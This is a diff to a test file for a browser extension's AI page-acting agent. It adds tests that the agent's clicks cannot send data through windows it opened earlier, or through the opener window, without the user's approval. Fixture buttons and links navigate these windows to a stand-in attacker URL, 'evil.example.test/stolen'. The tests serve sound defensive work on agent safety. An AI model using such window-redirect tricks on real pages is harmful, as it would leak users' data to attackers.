@@ -14,6 +14,10 @@ import { PanelBrowser, ask, killWorker } from './panel_support.js';
 
 const kEvil = 'http://evil.example.test:{{port}}';
 
+interface OfCalls {
+  domTool: { execute(tabId: number, call: object): Promise<unknown> };
+}
+
 /** What reached a server, but for the pages themselves. */
 const received: string[] = [];
 const pages = new Map<string, string>();
@@ -269,6 +273,87 @@ test('a site that is blocked gets nothing, whatever is set otherwise', async () 
   }
 });
 
+/** What the second press does to a window that the first one opened. */
+const kWindows: ReadonlyArray<[name: string, controls: string, sends: string]> = [
+  ['its address is set', button(`w.location = '${kEvil}/stolen'`), 'GET evil.example.test/stolen'],
+  ['its address is replaced', button(`w.location.replace('${kEvil}/stolen')`), 'GET evil.example.test/stolen'],
+  ['a script opens its name', button(`window.open('${kEvil}/stolen', 'own')`), 'GET evil.example.test/stolen'],
+  ['a link has its name', `<a href="${kEvil}/stolen" target=own>Continue</a>`, 'GET evil.example.test/stolen'],
+  ['the own site redirects it', button("w.location = '/away'"), 'GET evil.example.test/stolen'],
+  [
+    'a form has its name',
+    '<form method=post action=/x3 target=own><input type=hidden name=a value=1><button>Continue</button></form>',
+    'POST home.test/x3 a=1',
+  ],
+];
+
+for (const [name, controls, sends] of kWindows) {
+  for (const yes of [false, true]) {
+    test(`a window that an earlier action opened, ${name}: ${yes ? 'a yes sends it' : 'nothing without a yes'}`, async () => {
+      pages.set('/own-window', '<title>Own</title><h1>Own</h1>');
+      const path = `/page-${pages.size}`;
+      const opens = `<button onclick="w = window.open('/own-window', 'own', 'width=300,height=300')">Open</button>`;
+      pages.set(path, `<title>Form</title><h1>Form</h1>${opens}${controls}`);
+      received.length = 0;
+      const { page, tabId } = await browser.openPage(site.url(path, 'home.test'));
+      const call = (one: object) =>
+        browser.worker.evaluate(
+          ([id, given]) => (self as unknown as OfCalls).domTool.execute(id as number, given as object),
+          [tabId, one],
+        );
+      const shown = (await call({ action: 'get_dom' })) as { data: { content: string } };
+      const [opener] = findControls(shown.data.content, /^Open$/);
+      // The task stays in its tab.
+      await call({ action: 'click', nodeId: opener?.id });
+      const own = await eventually('the window is there', () =>
+        browser.context.pages().find((one) => one.url().endsWith('/own-window')),
+      );
+      await own.evaluate(() => (document.title = 'written here'));
+      script = [press()];
+      await agent.start(tabId, 'Go on with this form');
+      const { task, asked } = await agent.ended(tabId, yes);
+      assert.equal(asked.length, 1, JSON.stringify(task));
+      if (yes) {
+        await eventually('it was sent', () => received.includes(sends));
+        assert.equal(received.filter((one) => one === sends).length, 1);
+      } else {
+        assert.deepEqual(received, []);
+        assert.equal(await own.title(), 'written here', 'the window stays as it was');
+      }
+      await eventually('the window is let go', async () => {
+        const noted = await browser.worker.evaluate(() => chrome.storage.session.get('domtool.windows'));
+        return JSON.stringify(noted) === '{"domtool.windows":[]}';
+      });
+      await own.close();
+      await page.close();
+    });
+  }
+}
+
+test('the window that opened the page is held', async () => {
+  pages.set('/opener', `<title>Opener</title><h1>Opener</h1>`);
+  const path = `/page-${pages.size}`;
+  pages.set(path, `<title>Form</title>${button(`opener.location = '${kEvil}/stolen'`)}`);
+  received.length = 0;
+  const { page } = await browser.openPage(site.url('/opener', 'home.test'));
+  const comes = browser.context.waitForEvent('page');
+  await page.evaluate((to) => void window.open(to), path);
+  const child = await comes;
+  await child.waitForLoadState();
+  const tabId = await browser.worker.evaluate(
+    async (end) => (await chrome.debugger.getTargets()).find(({ url }) => url.endsWith(end))?.tabId,
+    path,
+  );
+  script = [press()];
+  await agent.start(tabId ?? 0, 'Go on with this form');
+  const { asked, task } = await agent.ended(tabId ?? 0, false);
+  assert.equal(asked.length, 1, JSON.stringify(task));
+  assert.deepEqual(received, []);
+  assert.equal(await page.title(), 'Opener');
+  await child.close();
+  await page.close();
+});
+
 test('nothing is held between the actions, and no rule is left', async () => {
   await run(button('0'), [press()], true);
   const rules = await browser.worker.evaluate(() => chrome.declarativeNetRequest.getSessionRules());
@@ -303,6 +388,32 @@ test('requests that a worker held when it ended are not sent by the next one, an
   await post('/two');
   await eventually('the next is sent', async () => (await page.title()) === 'sent /two');
   assert.deepEqual(received, ['POST home.test/two']);
+  await panel.close();
+  await page.close();
+});
+
+test('a window that a worker held when it ended is let go by the next one, and nothing of it is sent', async () => {
+  pages.set('/held-window', '<title>Window</title><h1>Window</h1>');
+  const { page, tabId } = await browser.openPage(site.url('/held-window', 'home.test'));
+  const panel = await browser.openPanel(tabId);
+  received.length = 0;
+  await browser.worker.evaluate(async (id) => {
+    await chrome.storage.session.set({ 'domtool.windows': [id] });
+    await chrome.debugger.attach({ tabId: id }, '1.3');
+    await chrome.debugger.sendCommand({ tabId: id }, 'Fetch.enable', { patterns: [{ resourceType: 'Document' }] });
+  }, tabId);
+  await page.evaluate(() => location.assign('/held-document'));
+  await killWorker(browser, panel);
+  // Any message starts the next one.
+  await ask(panel, { type: 'domtool.none' });
+  await eventually('the next worker has let go', async () => {
+    const noted = await browser.worker.evaluate(() => chrome.storage.session.get('domtool.windows'));
+    return Object.keys(noted).length === 0;
+  });
+  assert.equal(await page.title(), 'Window');
+  assert.deepEqual(received, []);
+  await page.goto(site.url('/next-document', 'home.test'));
+  assert.deepEqual(received, ['GET home.test/next-document']);
   await panel.close();
   await page.close();
 });
